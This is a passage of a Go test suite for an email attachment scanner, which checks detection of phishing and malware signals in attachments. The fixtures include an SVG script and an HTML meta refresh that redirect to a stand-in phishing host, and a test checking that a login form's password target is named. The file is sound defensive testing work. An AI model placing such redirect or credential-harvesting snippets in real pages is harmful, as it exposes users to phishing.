		{"svg script", "image.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://phish.example/"</script></svg>`), []string{"svg_script:weak", "html_redirect:weak"}, nil, 0},
		{"meta refresh", "open.html", []byte(`<html><head><meta http-equiv="refresh" content="0; url=https://phish.example/login"></head></html>`), []string{"html_redirect:weak"}, nil, 0},
		{"newsletter", "news.html", []byte(`<html><body><h1>GGD news</h1><a href="https://www.ggd.example/vaccin">Read more</a></body></html>`), nil, []string{"html_attachment_login_form:phishing", "html_smuggling:malware", "html_script:weak"}, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, tc.file, tc.data)
			got := signals(r)
			for _, w := range tc.want {
				if !contains1(got, w) {
					t.Errorf("want %s in %v", w, got)
				}
			}
			for _, w := range tc.not {
				if contains1(got, w) {
					t.Errorf("unexpected %s in %v", w, got)
				}
			}
			if tc.want == nil && len(got) > 0 {
				t.Errorf("want nothing, got %v", got)
			}
			if len(r.Members) != tc.members {
				t.Errorf("members %d, want %d", len(r.Members), tc.members)
			}
		})
	}
	r := analyze(t, "login.html", []byte(loginPage))
	for _, u := range []string{"https://collect.example.org/post.php", "https://who-int.example.net/logo.png"} {
		if !contains1(r.URLs, u) {
			t.Errorf("%s not in URLs %v", u, r.URLs)
		}
	}
	for _, f := range r.Findings {
		if f.Signal == "html_attachment_login_form" && !strings.Contains(f.Detail, "collect.example.org") {
			t.Errorf("detail does not name where the password goes: %s", f.Detail)
		}
	}
}

func TestContextCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := Analyze(ctx, Attachment{Name: "a.zip", Data: buildZip(t, zipMember{name: "a.txt", data: []byte("x")})}, Limits{})
	if r.Limit == "" || !hasSignal(r, "limit_time", finding.Limit) {
		t.Errorf("cancelled analysis does not say so: %q %v", r.Limit, signals(r))
	}
}

func TestDeterministic(t *testing.T) {
	z := buildZip(t,
		zipMember{name: "a.vbs", data: vbsDropper()},
		zipMember{name: "b.html", data: smugglingPage(t)},
		zipMember{name: "c.pdf", data: pdfDoc(`<< /OpenAction << /S /JavaScript /JS (x) >> /URI (https://a.example/) >>`)},
		zipMember{name: "d.zip", data: nestedZip(t, zipMember{name: "e.exe", data: minimalPE(false)}, 2)},
	)
	first := analyze(t, "all.zip", z)
	for i := 0; i < 5; i++ {
		if again := analyze(t, "all.zip", z); !reflect.DeepEqual(first, again) {
			t.Fatal("two analyses of the same attachment differ")
		}
	}
}

func TestEmptyAndTiny(t *testing.T) {
	for _, d := range [][]byte{nil, {}, []byte("M"), []byte("MZ"), []byte("PK\x03\x04"), []byte("%PDF-"), oleMagic} {
		r := analyze(t, "x", d)
		if r.Size != int64(len(d)) {
			t.Errorf("size %d for %q", r.Size, d)
		}
	}
}

// TestSharedOfficeFiles checks the typing of real Office files from
// /work/shared/data/office (absent in most checkouts: then skipped).
func TestSharedOfficeFiles(t *testing.T) {
	dir := filepath.Join("..", "..", "..", "..", "shared", "data", "office")
	if _, err := os.Stat(dir); err != nil {
		t.Skip("shared/data not present")
	}
	want := map[string][]string{
		".doc": {"ole", "rtf", "html", "xml", "text", "data"}, ".xls": {"ole", "html", "xml", "text", "data"}, ".ppt": {"ole"},
		// Encrypted OOXML is an OLE file holding the encrypted package.
		".docx": {"ooxml", "ole"}, ".docm": {"ooxml", "ole"}, ".xlsx": {"ooxml", "ole"}, ".xlsm": {"ooxml", "ole"}, ".pptm": {"ooxml", "ole"}, ".xlsb": {"ooxml", "ole"},
		".rtf": {"rtf"}, ".msg": {"ole"},
	}
	checked := 0
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		types, ok := want[strings.ToLower(filepath.Ext(p))]
		if !ok {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		r := analyze(t, d.Name(), data)
		checked++
		if !contains1(types, r.Type) {
			t.Errorf("%s: type %q, want one of %v", p, r.Type, types)
		}
		own := Report{Findings: r.Findings[:r.own]}
		if has(&own, "type_extension_mismatch") || has(&own, "executable") || has(&own, "dangerous_extension") {
			t.Errorf("%s: %v", p, signals(own))
		}
		return nil
	})
	if checked == 0 {
		t.Skip("no office files found")
	}
	t.Logf("%d office files typed", checked)
}

// TestSharedEncryptedZips opens the ZipCrypto zips (with data descriptors)
// that oletools ships its samples in, password "infected-test".
func TestSharedEncryptedZips(t *testing.T) {
	paths, _ := filepath.Glob(filepath.Join("..", "..", "..", "..", "shared", "data", "office", "oletools_test-data", "*", "*.zip"))
	if len(paths) == 0 {
		t.Skip("shared/data not present")
	}
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		r := analyze(t, filepath.Base(p), data, "wrong", "infected-test")
		zipErr := false
		for _, e := range r.Errors {
			zipErr = zipErr || strings.HasPrefix(e, "zip")
		}
		if len(r.Members) != 1 || r.Members[0].Type == "" || !hasSignal(r, "archive_password_in_body", finding.Weak) || zipErr {
			t.Errorf("%s: members %+v findings %v errors %v", p, r.Members, signals(r), r.Errors)
			continue
		}
		want := strings.TrimSuffix(filepath.Base(p), ".zip")
		if r.Members[0].Name != want {
			t.Errorf("%s: member %q", p, r.Members[0].Name)
		}
	}
}
